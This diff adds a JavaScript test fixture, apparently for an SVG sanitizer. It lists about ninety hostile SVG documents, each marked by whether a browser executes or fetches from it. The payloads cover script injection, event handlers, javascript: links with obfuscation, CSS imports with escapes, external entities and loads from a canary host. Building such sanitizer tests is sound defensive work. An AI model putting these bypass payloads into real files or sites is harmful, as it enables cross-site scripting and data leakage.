@@ -1,0 +1,103 @@
+// Documents that try to run, to fetch or to lead away, each in a way of its own. `fires` says that a browser falls for it
+// when the file is opened as it is: the test sees to it that it does, so that it knows how to see.
+
+const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">';
+const body = '<rect id="r" width="200" height="200" fill="teal"/>';
+const svg = (content, root = open) => `${root}${content}</svg>`;
+const out = "http://198.51.100.7/canary";
+const run = "console.log('RAN')";
+const base64 = (text) => Buffer.from(text).toString("base64");
+const evil = svg(`<script>${run}</script><image href="${out}.png" width="9" height="9"/>`);
+const utf16 = (text) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
+
+export const attacks = [
+  // Scripts
+  { name: "script", fires: true, text: svg(`${body}<script>${run}</script>`) },
+  { name: "script by href", fires: true, text: svg(`${body}<script href="${out}.js"/>`) },
+  { name: "script in a data URL", fires: true, text: svg(`${body}<script xlink:href="data:text/javascript,${run}"/>`) },
+  { name: "script in CDATA", fires: true, text: svg(`${body}<script><![CDATA[${run}]]></script>`) },
+  { name: "script of the XHTML namespace", fires: true, text: svg(`${body}<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`) },
+  { name: "script by a prefix", fires: true, text: `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="9" height="9"><s:script>${run}</s:script></s:svg>` },
+  { name: "script by an entity", fires: true, text: `<!DOCTYPE svg [<!ENTITY x "${run}">]>${svg(`${body}<script>&x;</script>`)}` },
+  { name: "script as an entity", text: `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>console.log(1)</script>">]>${svg(`${body}&x;`)}` },
+  { name: "script by a default attribute", text: `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>${svg(body)}` },
+  { name: "script in UTF-16", fires: true, bytes: utf16(svg(`<script>${run}</script>`)) },
+  { name: "script in UTF-7", text: `<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI-+AD4-+ADw-script+AD4-${run}+ADw-/script+AD4-+ADw-/svg+AD4-` },
+  { name: "script under a namespace by an entity", fires: true, text: `<!DOCTYPE svg [<!ENTITY n "http://www.w3.org/2000/svg">]><svg xmlns="&n;" width="9" height="9"><script>${run}</script></svg>` },
+  { name: "script behind a title", text: svg(`<title>&lt;/title>&lt;script>${run}&lt;/script></title><desc><![CDATA[</desc><script>${run}</script>]]></desc>${body}`) },
+  { name: "nested script", fires: true, text: svg(`<svg><g><defs><script>${run}</script></defs></g></svg>`) },
+  { name: "script in foreignObject", fires: true, text: svg(`<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></body></foreignObject>`) },
+  { name: "iframe in foreignObject", fires: true, text: svg(`<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${out}.html"/></foreignObject>`) },
+  { name: "iframe with a document of its own", fires: true, text: svg(`<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${run}&lt;/script>"/></foreignObject>`) },
+  { name: "XHTML outside of foreignObject", fires: true, text: svg(`<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="${out}.png" onerror="${run}"/>`) },
+  { name: "refreshed by meta", fires: true, text: svg(`<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${out}.html"/>`) },
+  { name: "link to a style sheet", fires: true, text: svg(`<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${out}.css"/>`) },
+  { name: "base", fires: true, text: svg(`<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="${out}/"/><image href="x.png" width="9" height="9"/>`) },
+  { name: "object", text: svg(`<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="${out}.html"/>`) },
+  { name: "audio", fires: true, text: svg(`<h:audio xmlns:h="http://www.w3.org/1999/xhtml" src="${out}.mp3" autoplay="" />`) },
+  { name: "handler", text: svg(`<handler type="application/ecmascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">${run}</handler>${body}`) },
+  { name: "style sheet by an instruction", fires: true, text: `<?xml-stylesheet href="${out}.css" type="text/css"?>${svg(body)}` },
+  { name: "XSLT by an instruction", text: `<?xml-stylesheet href="data:text/xsl;base64,${base64("<x/>")}" type="text/xsl"?>${svg(body)}` },
+  { name: "external entity", text: `<!DOCTYPE svg [<!ENTITY x SYSTEM "${out}.txt">]>${svg("<text>&x;</text>")}` },
+  { name: "external DTD", text: `<!DOCTYPE svg SYSTEM "${out}.dtd">${svg(body)}` },
+  // Events
+  { name: "onload", fires: true, text: svg(body, open.replace("<svg ", `<svg onload="${run}" `)) },
+  { name: "ONLOAD", text: svg(body, open.replace("<svg ", `<svg ONLOAD="${run}" onLoad="${run}" `)) },
+  { name: "onclick", fires: true, text: svg(`<rect width="200" height="200" onclick="${run}" onmousemove="${run}"/>`) },
+  { name: "onbegin", fires: true, text: svg(`${body}<animate onbegin="${run}" attributeName="x" dur="1s"/>`) },
+  { name: "onerror", fires: true, text: svg(`<image href="data:image/png,x" onerror="${run}" width="9" height="9"/>`) },
+  { name: "onfocus", fires: true, text: svg(`<g tabindex="1" id="f" onfocus="${run}" autofocus=""><rect width="200" height="200"/></g>`) },
+  // Links
+  { name: "a link to a script", fires: true, text: svg(`<a xlink:href="javascript:${run}">${body}</a>`) },
+  { name: "a link with tabs in it", fires: true, text: svg(`<a href="java&#9;script:${run}">${body}</a>`) },
+  { name: "a link with a space before it", fires: true, text: svg(`<a href="&#1;javascript:${run}" xlink:href=" javascript:${run}">${body}</a>`.replace("&#1;", " ")) },
+  { name: "a link elsewhere", fires: true, text: svg(`<a href="${out}.html">${body}</a>`) },
+  { name: "a link with a ping", fires: true, text: svg(`<a href="#r" ping="${out}">${body}</a><a href="${out}.html"><rect width="200" height="200"/></a>`) },
+  { name: "a link set by set", fires: true, text: svg(`<a><set attributeName="href" to="javascript:${run}"/>${body}</a>`) },
+  { name: "a link set by animate", fires: true, text: svg(`<a><animate attributeName="xlink:href" values="javascript:${run}" begin="0s" dur="99s"/><animate attributeName="href" values="javascript:${run}" dur="99s"/>${body}</a>`) },
+  { name: "a link set from outside of it", fires: true, text: svg(`<a id="l">${body}</a><set href="#l" xlink:href="#l" attributeName="href" to="${out}.html"/>`) },
+  { name: "an event set by set", text: svg(`<rect width="200" height="200"><set attributeName="onclick" to="${run}"/><set attributeName="onmouseover" to="${run}"/></rect>`) },
+  { name: "an image set by animate", fires: true, text: svg(`<image width="9" height="9"><set attributeName="href" to="${out}.png"/></image>`) },
+  { name: "a fill set by animate", text: svg(`<rect width="200" height="200"><set attributeName="fill" to="url(${out}.svg#a)"/><animate attributeName="filter" values="url(${out}.svg#a);none" dur="3s"/></rect>`) },
+  { name: "a style set by animate", text: svg(`<rect width="200" height="200"><set attributeName="style" to="fill:url(${out}.svg#a)"/></rect>`) },
+  // References
+  { name: "use", fires: false, text: svg(`<use href="${out}.svg#x"/><use xlink:href="${out}.svg#x"/>`) },
+  { name: "use of a relative file", fires: true, text: svg(`<use href="/other.svg#x"/>`) },
+  { name: "use of a data URL", text: svg(`<use href="data:image/svg+xml;base64,${base64(evil.replace("<script", '<g id="x"/><script'))}#x"/>`) },
+  { name: "image", fires: true, text: svg(`<image href="${out}.png" width="9" height="9"/>`) },
+  { name: "image without a scheme", fires: true, text: svg(`<image href="//198.51.100.7/canary.png" width="9" height="9"/>`) },
+  { name: "image with backslashes", fires: true, text: svg(`<image href="\\\\198.51.100.7\\canary.png" width="9" height="9"/>`) },
+  { name: "image of the same server", fires: true, text: svg(`<image href="private.png" width="9" height="9"/>`) },
+  { name: "image after a base", text: svg(`<g xml:base="${out}/"><image href="#x" width="9" height="9"/><use href="#x"/></g>`) },
+  { name: "SVG in an image", text: svg(`<image href="data:image/svg+xml;base64,${base64(evil)}" width="9" height="9"/>`) },
+  { name: "SVG called PNG", text: svg(`<image href="data:image/png;base64,${base64(evil)}" width="9" height="9"/>`) },
+  { name: "HTML in an image", text: svg(`<image href="data:text/html,&lt;script>${run}&lt;/script>" width="9" height="9"/>`) },
+  { name: "feImage", fires: true, text: svg(`<filter id="f"><feImage href="${out}.png"/></filter><rect width="99" height="99" filter="url(#f)"/>`) },
+  { name: "gradient of another file", text: svg(`<linearGradient id="g" href="${out}.svg#g"/><rect width="99" height="99" fill="url(#g)"/>`) },
+  { name: "fill, mask, clip, marker and cursor", fires: true, text: svg(`<path d="M0 0L9 9L99 9" fill="url(${out}1#a)" stroke="url('${out}2#a')" mask="url(${out}3.svg#m)" clip-path="url(${out}4.svg#m)" filter="url(${out}5.svg#m)" marker-mid="url(${out}6.svg#m)" cursor="url(${out}7.png), auto"/>`) },
+  { name: "fill in escapes", text: svg(`<rect width="99" height="99" mask="\\75rl(${out}.svg#m)" filter="u\\72l(${out}.svg#m)"/>`) },
+  // Style sheets
+  { name: "import", fires: true, text: svg(`<style>@import "${out}.css";</style>${body}`) },
+  { name: "import by url", fires: true, text: svg(`<style>@import url(${out}.css);</style>${body}`) },
+  { name: "import in escapes", fires: true, text: svg(`<style>@\\69mport "${out}.css";</style>${body}`) },
+  { name: "import behind a comment", fires: true, text: svg(`<style>/* ; */@import/**/"${out}.css";</style>${body}`) },
+  { name: "import in pieces", fires: true, text: svg(`<style>@imp<!-- x -->ort <![CDATA["${out}.css";]]></style>${body}`) },
+  { name: "background", fires: true, text: svg(`<style>svg{background:url(${out}.png)}</style>${body}`) },
+  { name: "background in escapes", fires: true, text: svg(`<style>svg{background:\\75\\72\\6c(${out}.png)}</style>${body}`) },
+  { name: "background by image-set", fires: true, text: svg(`<style>svg{background:image-set("${out}.png" 1x)}</style>${body}`) },
+  { name: "background by -webkit-image-set", fires: true, text: svg(`<style>svg{background:-webkit-image-set(url("${out}.png") 1x)}</style>${body}`) },
+  { name: "background by a variable", fires: true, text: svg(`<style>svg{--x:url("${out}.png");background:var(--x)}</style>${body}`) },
+  { name: "background in a style attribute", fires: true, text: svg(body, open.replace("<svg ", `<svg style="background:url(&quot;${out}.png&quot;)" `)) },
+  { name: "background behind an unclosed string", fires: true, text: svg(`<style>a{x:"\n}svg{background:url(${out}.png)}</style>${body}`) },
+  { name: "background behind a comment that ends none", fires: true, text: svg(`<style>/*/*/svg{background:url(${out}.png)}/*</style>${body}`) },
+  { name: "background behind CDO", fires: true, text: svg(`<style>&lt;!-- svg{background:URL(${out}.png)} --></style>${body}`) },
+  { name: "background in nested rules", fires: true, text: svg(`<style>@media all{@supports (x:y) or (color:red){svg{&amp;{background:url(${out}.png)}}}}</style>${body}`) },
+  { name: "cursor", fires: true, text: svg(`<style>rect{cursor:url(${out}.png),auto}</style>${body}`) },
+  { name: "font", fires: true, text: svg(`<style>@font-face{font-family:F;src:url(${out}.woff2)}text{font-family:F}</style><text y="20">x</text>`) },
+  { name: "shape", text: svg(`<style>rect{shape-inside:url(${out}.png);offset-path:url(${out}.svg#p);d:url(${out})}</style>${body}`) },
+  { name: "list and content", fires: true, text: svg(`<style>svg{border-image:url(${out}.png) 9;list-style-image:url(${out}2.png);content:url(${out}3.png)}</style>${body}`) },
+  { name: "style of another type", text: svg(`<style type="text/x">@import "${out}.css";</style>${body}`) },
+  { name: "style in an HTML namespace", fires: true, text: svg(`<h:style xmlns:h="http://www.w3.org/1999/xhtml">@import "${out}.css";</h:style>${body}`) },
+  { name: "style that closes itself", text: svg(`<style>a{}&lt;/style>&lt;script>${run}&lt;/script></style>${body}`) },
+  { name: "attribute that closes itself", text: svg(`<g id="&quot;>&lt;script>${run}&lt;/script>" class='"onload="${run}' aria-label="'onclick=${run}"/>${body}`) },
+];
